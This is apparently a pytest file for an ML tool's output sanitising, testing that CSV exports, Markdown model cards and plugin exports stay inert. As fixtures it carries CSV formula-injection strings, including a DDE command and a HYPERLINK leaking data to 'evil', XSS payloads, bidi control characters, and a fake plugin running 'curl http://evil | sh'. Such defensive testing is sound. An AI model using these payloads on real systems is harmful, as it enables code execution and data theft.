"""Outputs a researcher opens elsewhere stay inert whatever the data, the database or a plugin
names: predict's and the leaderboard's CSV in a spreadsheet (no formulas), MODEL_CARD.md in a
Markdown viewer (no HTML, no broken code spans or tables, no invisible controls), and an
export's plugin folder (only the plugin files the model needs).

One 1-candidate search on a tiny table with hostile ids, class names, levels and column names
serves the predict and export tests; the rest is built in memory.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import warnings
from pathlib import Path

import pytest
from clirun import run_cli
from store_rows import add_search

from automed.results.leaderboard import to_csv
from automed.results.model_card import _copy_plugin_files, export_model, render_model_card
from automed.searching.runner import search
from automed.storage import Store

FORMULA = re.compile(r"^[=+\-@\t\r]")
IDS = ['=HYPERLINK("http://evil/?q="&A2,"open")', "@SUM(1+1)", "+cmd", "-2+3", "-7", "p"]
CLASSES = ("=1+1", "@cmd")
LEVELS = ('"><img src=x onerror=alert(1)>', "<script>alert(1)</script>")
N = 24


def _is_formula(cell: str) -> bool:
    """A cell a spreadsheet runs: it starts like a formula and is no plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return bool(FORMULA.match(cell))


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    rows = [["pid", "age", "kind", "label"]]
    for i in range(N):
        y = i % 2
        rows.append([f"{IDS[i % len(IDS)]}{i}" if i % len(IDS) != 4 else f"-{i}",
                     50 + 15 * y + i % 3, LEVELS[(i // 2) % 2], CLASSES[y]])
    path = root / "t.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    storage = f"sqlite:///{root / 'studies.db'}"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # LEAKAGE: the tiny table repeats rows
        search(path, study="hostile", id_col="pid", trials=1, folds=2, max_epochs=1,
               bootstrap=0, architectures=["mlp"], storage=storage)
    return root, storage, path, [r[0] for r in rows[1:]]


def test_predict_csv_neutralises_formula_cells(study, monkeypatch, capsys):
    root, storage, path, ids = study
    code, out, err = run_cli(monkeypatch, capsys, "predict", str(path), "--study", "hostile",
                             "--storage", storage)
    assert code in (0, None), err
    table = list(csv.reader(io.StringIO(out)))
    header, lines = table[0], table[1:]
    assert len(lines) == N
    assert not [c for c in header if _is_formula(c)], header
    for line in lines:
        cells = dict(zip(header, line))
        assert not [c for c in line if _is_formula(c)], line
        # text cells carry a leading ' where they would be formulas, and read back as given
        assert cells["label"] in ("'=1+1", "'@cmd")
        assert cells["predicted"] in ("'=1+1", "'@cmd")
        for c in header:
            if c.startswith("p_"):
                assert 0.0 <= float(cells[c]) <= 1.0  # numbers stay numbers
        assert int(cells["index"]) >= 0
    got = [dict(zip(header, line))["id"] for line in lines]
    assert [g[1:] if g.startswith("'") else g for g in got] == ids
    assert got[4] == "-4" and got[0].startswith("'=HYPERLINK(")  # a negative number stays one


def test_leaderboard_csv_neutralises_formula_cells(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    store = Store(url)
    add_search(store, "=cmd|' /C calc'!A0", dataset="@SUM(A1:A9)", candidates=[
        ("-2+3", "complete", -0.5, {"accuracy": -0.25}, None),
        ("+arch", "failed", None, {}, '=HYPERLINK("http://evil/?q="&B2,"x")\nmore')])
    code, out, err = run_cli(monkeypatch, capsys, "leaderboard", "--all", "--format", "csv",
                             "--storage", url)
    assert code in (0, None), err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 2
    for row in rows:
        # fold_scores: numbers, ";"-separated, written as they are
        [float(v) for v in row.pop("fold_scores").split(";") if v]  # raises if not
        assert not [v for v in row.values() if _is_formula(v)], row
        assert row["study"] == "'=cmd|' /C calc'!A0" and row["dataset"] == "'@SUM(A1:A9)"
    scored = next(r for r in rows if r["state"] == "complete")
    assert scored["architecture"] == "'-2+3"
    # numeric columns keep negative numbers as numbers
    assert scored["score_mean"] == "-0.5" and scored["accuracy"] == "-0.25"
    failed = next(r for r in rows if r["state"] == "failed")
    assert failed["architecture"] == "'+arch"
    assert failed["error"] == "'=HYPERLINK(\"http://evil/?q=\"&B2,\"x\")"
    # the header's metric names come from the database too
    header = to_csv([{**store.leaderboard("=cmd|' /C calc'!A0")[0],
                      "metrics": {"=evil()": 1.0}}]).splitlines()[0]
    assert ",'=evil()," in header


def _hostile_config() -> dict:
    return {
        "architecture": "mlp<b>", "study": "st`udy``x|<i>\x1b[31m", "trial": 0,
        "params": {"width": "`</code><script>alert(1)</script>"},
        "classes": ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
                    "a\u202eexe.txt", "bell\x07|pipe"],
        "spec": {"modality": "tabular", "input_shape": [3]},
        "metric": "accuracy", "average": "macro", "refit": True,
        "preprocessor": {"modality": "tabular", "state": {"columns": [
            {"name": "we`ird|col", "kind": "numeric"},
            {"name": "<img src=x onerror=alert(2)>", "kind": "categorical",
             "levels": ["<script>alert(3)</script>", "x\x1by", "a|b", "[l](javascript:x)"]}]}},
        "data": {"source": "da`ta<x>.csv", "samples": 40, "fingerprint": "abc",
                 "class_counts": {"<script>alert(4)</script>": 20, "b\u2066": 20},
                 "label": "lab`el"},
        "cv": {"folds": 2, "score_mean": 0.8, "score_std": 0.1},
        "test": {"source": "te`st.csv", "size": 10, "how": "split <b>",
                 "scores": {"acc|uracy<script>": 0.9}, "ci": None, "bootstrap": 0},
        "leakage_warnings": ["LEAKAGE: class '<script>alert(5)</script>' \u202e"],
        "manifest": {"device": "cpu<script>", "platform": "x\x9b", "versions": {"t": "<i>"}},
    }


def test_the_model_card_escapes_every_data_derived_value():
    card = render_model_card(_hostile_config())
    # outside code spans (inside one, CommonMark shows "<" as it is, never as a tag)
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", card)
    for raw in ("<script", "<img", "<i>", "<b>", "<x>", "</code>"):
        assert raw not in prose, raw
    for raw in ("\x1b", "\x07", "\x9b", "\u202e", "\u2066"):
        assert raw not in card, raw
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", card)
    assert "\\x1b" in card and "\\u202e" in card  # shown, not dropped
    # a backtick in a name gets a longer fence: the code span holds the whole name
    assert "# Model card: mlp&lt;b&gt; from study ```st`udy``x|<i>\\x1b[31m```" in card
    assert "``we`ird|col``" in card and "``lab`el``" in card
    # a | in a table cell does not open another column
    row = next(ln for ln in card.splitlines() if ln.startswith("| acc"))
    assert row == "| acc\\|uracy&lt;script&gt; | 0.9000 |"


def test_the_model_card_renders_without_live_html():
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    html = md.render(render_model_card(_hostile_config()))
    assert not re.search(r"<(script|img|i|b|x)\b", html), html
    assert "<a " not in html and "href" not in html  # "[l](javascript:x)" made no link
    # the study's code span is the whole name, shown as text
    assert "<code>st`udy``x|&lt;i&gt;\\x1b[31m</code>" in html  # shown as written
    tables = re.findall(r"<tr>.*?</tr>", html, re.S)
    assert all(t.count("<td>") in (0, 2) for t in tables)  # metric | value, nothing more


def _plan_plugins(store: Store, study: str, refs: list[dict]) -> None:
    info = store.search(study)
    plan = dict((info.get("config") or {}).get("plan") or {})
    plan["plugins"] = refs
    store.update_search_config(info["id"], plan=plan)


def _ref(path: Path) -> dict:
    return {"source": str(path), "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}


def test_export_of_a_builtin_model_copies_no_plugin_named_by_the_database(study, tmp_path):
    # A database edited to name any file as the study's plugin: the model is a built-in
    # architecture (a bag of mlp fold models), so nothing is copied and nothing said.
    _, storage, _, _ = study
    evil = tmp_path / "evil.py"
    evil.write_text("import os\nos.system('curl http://evil | sh')\n")
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN PRIVATE KEY-----\n")
    store = Store(storage)
    _plan_plugins(store, "hostile", [_ref(evil), _ref(secret)])
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        out = export_model(store, "hostile", tmp_path / "out", [str(evil)])
    assert not (out / "plugins").exists()
    card = (out / "MODEL_CARD.md").read_text(encoding="utf-8")
    assert "evil" not in card and "plugins/" not in card and "--plugin" not in card
    assert not [w for w in said if "plugin" in str(w.message)]


def test_only_py_plugin_files_are_copied(tmp_path):
    # A model that needs a plugin file: its searched .py file is copied; a non-.py file a
    # database names beside it is not, and is not asked for either (QA: the warning told the
    # user to give that file with --plugin to copy it).
    good = tmp_path / "arch.py"
    good.write_text("# the plugin\n")
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN PRIVATE KEY-----\n")
    info = {"config": {"plan": {"plugins": [_ref(secret), _ref(good)]}}}
    out = tmp_path / "out"
    out.mkdir()
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        copied = _copy_plugin_files(info, out)
    assert copied == ["plugins/arch.py"]
    assert not [str(w.message) for w in said], [str(w.message) for w in said]
    assert sorted(p.name for p in (out / "plugins").iterdir()) == ["arch.py"]
